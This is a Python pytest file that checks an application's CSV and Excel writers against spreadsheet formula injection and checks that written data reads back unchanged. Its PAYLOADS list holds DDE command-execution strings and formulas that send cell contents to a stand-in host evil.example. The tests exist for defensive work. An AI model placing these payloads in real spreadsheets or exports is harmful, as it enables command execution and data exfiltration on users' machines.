"""SECURITY row 7: nothing that we write is calculated by a spreadsheet, and what was written can be read again."""

import csv
import io
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from app.kernel.tables import read_table, write_csv, write_xlsx
from tests.kernel.tables.workbooks import SHEET

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"klik")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(A1:A9)",
    "=A1",
    "=",
    "==1",
    "+1+1",
    "+31612345678",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-",
    "--1",
    "-1;=2",
    "@SUM(1+1)",
    "@import",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\t=1+1",
    "\tx",
    "\r=1+1",
    "\n=1+1",
    "\r\n@x",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    'x";=1+1;"',
    "x\n=1+1",
    "a;=1+1",
    "a,=1+1",
    "{=1+1}",
]
PLAIN = ["Noor", "-5", "-12,5", "2026-08-01", "De Vlieger (Emmen)", "", "0612345678", "a=b", "'s-Gravenhage"]
CALCULATED = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_calculated(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula: the reason why the apostrophe is there."""
    return cell.startswith(CALCULATED) or cell.strip().startswith(CALCULATED)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_is_never_calculated_and_reads_back_the_same(payload):
    content = write_csv([payload], [[payload], ["x"]])
    raw = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert not any(is_calculated(cell) for row in raw for cell in row)
    assert [len(row) for row in raw] == [1, 1, 1]
    if payload.strip() == payload and not payload.startswith("'"):
        assert read_table(content).rows[0].cells == (payload,)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_workbook_cell_is_text_and_nothing_else(payload):
    content = write_xlsx([payload], [[payload]], payload)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
    assert {cell.hyperlink for row in sheet.iter_rows() for cell in row} == {None}
    assert b"<f>" not in ZipFile(io.BytesIO(content)).read(SHEET)


def test_a_plain_writer_would_be_caught():
    """The planted fault: the standard library's writer leaves a formula as it is."""
    plain = io.StringIO()
    csv.writer(plain).writerows([[payload] for payload in PAYLOADS])
    caught = [
        row[0]
        for row in csv.reader(io.StringIO(plain.getvalue(), newline=""))
        if row and is_calculated(row[0])
    ]
    assert len(caught) >= 30


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_as_it_is(text):
    raw = write_csv([text], []).decode("utf-8-sig")
    assert raw == f'"{text}"\r\n'


@pytest.mark.parametrize("write", [write_csv, lambda columns, rows: write_xlsx(columns, rows, "Mensen")])
def test_what_is_written_is_read_the_same(write):
    rows = [["Zoë", "+31612345678", "een\ntwee; drie", "007"], ["Noor", "-5", "=1+1", '"']]
    table = read_table(write(["Naam", "Telefoon", "Tekst", "Code"], rows))
    assert [list(row.cells) for row in table.rows] == rows


def test_header_stays_in_sight():
    book = load_workbook(io.BytesIO(write_xlsx(["Naam"], [["Noor"]], "Mensen: alle/[2026]")))
    sheet = book.worksheets[0]
    assert (sheet.freeze_panes, sheet["A1"].font.bold, sheet.title) == ("A2", True, "Mensen  alle  2026")
